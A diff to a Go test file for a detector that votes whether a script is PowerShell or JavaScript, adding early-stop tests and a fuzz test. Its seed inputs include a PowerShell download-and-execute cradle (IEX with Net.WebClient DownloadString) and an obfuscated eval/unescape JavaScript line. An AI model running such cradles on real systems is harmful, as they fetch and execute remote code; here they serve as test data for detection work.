@@ -115,9 +115,87 @@ func TestDetect(t *testing.T) {
 			t.Errorf("%s: Detect = %q, want %q", tt.name, got, tt.want)
 		}
 	}
+	// The vote stops once the signals left cannot change the outcome.
+	stops := []struct {
+		name, src string
+		js        bool
+		tried     int
+	}{
+		// $, ticking, -join and [char] give PowerShell 4; after `=>` and
+		// .join( miss, JavaScript's 4 left can at best tie.
+		{"powershell decided early", "$x = [char]105 -join ''; i`ex $x", false, 6},
+		// =>, .split( and String.fromCharCode give JavaScript 3, more
+		// than PowerShell's 2 left after four misses.
+		{"javascript decided early", "const f = (a) => String.fromCharCode(a).split('')", true, 7},
+		// 2-2: $ and ticking against => and .split(. Once the last
+		// JavaScript signal misses, a tie is certain and stays
+		// PowerShell without matching param( or the cmdlet names.
+		{"tie stays powershell", "$x = 'a'.split(',') => `t", false, 10},
+	}
+	for _, tt := range stops {
+		js, tried := vote(tt.src)
+		if js != tt.js || tried != tt.tried {
+			t.Errorf("%s: vote = (js %v, %d signals tried), want (js %v, %d)", tt.name, js, tried, tt.js, tt.tried)
+		}
+		if js != fullVote(tt.src) {
+			t.Errorf("%s: vote disagrees with the full count", tt.name)
+		}
+	}
+	ps, js := 0, 0
+	for _, s := range signals {
+		if s.js {
+			js++
+		} else {
+			ps++
+		}
+	}
+	if ps != 6 || js != 6 {
+		t.Errorf("vote has %d PowerShell and %d JavaScript signals, want 6 and 6", ps, js)
+	}
 	// Oversize input: only the window is scanned (no crash, a result).
 	big := strings.Repeat(" ", detectWindow) + "var x = String.fromCharCode(1)"
 	if got := Detect(big); got != "powershell" {
 		t.Errorf("signals beyond the window changed the vote: %q", got)
 	}
+}
+
+// fullVote is the vote without the early stop, kept as the reference:
+// every signal is matched and counted, and JavaScript must win
+// strictly.
+func fullVote(src string) bool {
+	ps, js := 0, 0
+	for _, s := range signals {
+		if !s.re.MatchString(src) {
+			continue
+		}
+		if s.js {
+			js++
+		} else {
+			ps++
+		}
+	}
+	return js > ps
+}
+
+// FuzzDetect checks that Detect's early-stopping vote always agrees
+// with the full twelve-signal count.
+func FuzzDetect(f *testing.F) {
+	for _, s := range []string{
+		"",
+		"$a = 'x'; Write-Host $a -join ','",
+		"var x = String.fromCharCode(104); console.log(x.split(''))",
+		"eval(unescape('%68%69')); document.write(atob('aGk='))",
+		"IEX (New-Object Net.WebClient).DownloadString('http://x')",
+		"$v = 'function(' + $x -join ''",
+		"$x = 'a'.split(',') => `t",
+		"function(a){ return [char]a }; param($p) => 1",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		js, tried := vote(src)
+		if want := fullVote(src); js != want {
+			t.Fatalf("vote(%q) = js %v after %d signals, the full count says js %v", src, js, tried, want)
+		}
+	})
 }
